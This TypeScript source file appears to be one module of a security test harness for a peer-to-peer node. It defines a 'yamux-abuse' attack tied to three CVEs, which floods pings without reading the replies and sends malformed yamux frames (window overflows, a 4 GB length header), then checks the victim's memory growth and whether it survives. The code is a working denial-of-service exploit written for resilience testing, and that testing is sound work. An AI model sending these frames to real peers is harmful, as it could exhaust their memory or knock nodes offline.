import { setTimeout as pause } from 'node:timers/promises';
import { type Arena, attackerAddress, MEGABYTE, megabytes, within } from '../arena.js';
import type { Attack } from '../attack.js';
import type { Link } from '../wire/peer.js';
import { Flag, Frame, WINDOW_BYTES, yamuxFrame } from '../wire/yamux.js';

const PINGS = 1_000_000;
const PINGS_PER_SEND = 5_000;
const GROWTH_LIMIT = 16 * MEGABYTE;

/** Frames against the rules. Where only a stream breaks them, it is enough that the stream ends. */
const faults: Readonly<Record<string, (link: Link) => void>> = {
  'window overflow': ({ yamux }) => {
    const stream = yamux.open('/syncer/0.2');
    for (let sent = 0; sent <= 20 * WINDOW_BYTES; sent += 60_000)
      yamux.link.send(yamuxFrame(Frame.data, Flag.none, stream.id, Buffer.alloc(60_000)));
  },
  'SYN with data beyond the window': ({ yamux }) =>
    yamux.link.send(yamuxFrame(Frame.data, Flag.syn, yamux.takeId(), Buffer.alloc(2 * WINDOW_BYTES))),
  'a length of 4 GB': ({ yamux }) => {
    yamux.link.send(yamuxFrame(Frame.data, Flag.syn, yamux.takeId(), 0xffff_ffff));
    for (let sent = 0; sent < 40 * MEGABYTE; sent += 60_000) yamux.link.send(Buffer.alloc(60_000));
  },
};

/** Pings without end, which must not pile up answers, and data that nobody asked for. */
export const yamuxAbuse: Attack = {
  name: 'yamux-abuse',
  source: 'CVE-2026-32314, CVE-2026-31814, CVE-2024-32984',
  limit: '+ ≤ 16 MB by each, alive',
  honestBytes: 12_000_000,
  run: async (arena) => {
    const open: string[] = [];
    const grown: Record<string, number> = {
      'pings unread': await arena.growth(() => pingWithoutReading(arena)),
    };
    for (const [index, [name, commit]] of Object.entries(faults).entries())
      grown[name] = await arena.growth(async () => {
        const link = await arena.join(arena.peer(), attackerAddress(60, 2 + index));
        commit(link);
        await within(3_000, () => link.connection.isClosed);
        if (!link.connection.isClosed) open.push(name);
        link.connection.socket.destroy();
      });
    const figures = Object.entries(grown).map(([name, bytes]) => `${name} + ${megabytes(bytes)}`);
    return {
      figure: `${figures.join(', ')}; connection left open by: ${open.join(', ') || 'none'}`,
      ok: arena.victim.isAlive && Object.values(grown).every((bytes) => bytes <= GROWTH_LIMIT),
    };
  },
};

async function pingWithoutReading(arena: Arena): Promise<void> {
  const { connection, yamux } = await arena.join(arena.peer(), attackerAddress(60));
  connection.socket.pause();
  const pings = Buffer.concat(
    Array.from({ length: PINGS_PER_SEND }, (_, i) => yamuxFrame(Frame.ping, Flag.syn, 0, i)),
  );
  const until = performance.now() + 10_000;
  for (let sent = 0; sent < arena.count(PINGS) && performance.now() < until; sent += PINGS_PER_SEND) {
    if (connection.isClosed) return;
    yamux.link.send(pings);
    await Promise.race([yamux.link.drained(), pause(1_000)]);
  }
  await pause(500);
  connection.socket.destroy();
}
